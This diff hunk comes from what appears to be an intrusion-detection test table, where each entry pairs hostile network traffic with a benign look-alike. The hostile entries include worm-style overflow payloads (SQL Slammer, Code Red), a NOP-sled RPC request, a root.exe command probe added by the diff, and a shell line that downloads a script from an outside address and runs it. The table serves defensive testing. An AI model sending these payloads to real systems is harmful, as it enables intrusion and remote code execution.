@@ -36,6 +36,7 @@ TABLE = [
     (417, talk(445, smb2_create("autorun.inf")), talk(445, smb2_create("autoexec.bat"))),
     (418, dgram(1434, b"\4" + b"\1" * 96 + b"\xdc\xc9\xb0\x42" * 70), dgram(1434, b"\4SQLEXPRESS\0")),
     (419, get("/default.ida?" + "N" * 224 + "%u9090=a"), get("/default.ida?NNNN=a")),
+    (424, get("/scripts/root.exe?/c+dir"), get("/download/setup.exe?/category")),
     (420, mail("photo.jpg.exe"), mail("photo.jpg")),
     (421, talk(445, smb1(0x25, b"\0" * 28, rpc_request(9, b"\0" * 40 + b"\x90" * 64))), talk(445, smb1(0x25, b"\0" * 28, rpc_request(9, b"\0" * 100)))),
     (422, talk(2222, "cd /tmp || cd /var; wget http://198.51.100.7/b.sh; chmod 777 b.sh; ./b.sh\n"), talk(2222, "cd /tmp; wget http://www.shop.example/manual; chmod\n")),
